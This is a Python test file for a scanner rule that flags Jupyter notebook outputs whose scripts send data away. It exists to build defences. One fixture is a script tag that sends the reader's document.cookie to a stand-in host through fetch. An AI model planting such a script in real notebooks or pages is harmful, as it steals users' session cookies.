"""Rule notebook-script: a notebook has a script that sends or decodes."""

from __future__ import annotations

from inspect_samples import found, notebook, told

from watchword.inspect.facts import Verdict


def test_a_script_that_sends_cookies_is_suspicious() -> None:
    """An output that sends the cookies of the reader away is no plot."""
    script = "<script>fetch('https://a.example/?c=' + document.cookie)</script>"
    assert ("notebook-script", Verdict.SUSPICIOUS) in told(notebook("x", output=script), "a.ipynb")


def test_a_script_that_draws_is_silent() -> None:
    """Plots bring a script with them, and it only draws."""
    assert found(notebook("x", output="<div id=p></div><script>Plotly.newPlot('p', [1])</script>"), "a.ipynb") == set()
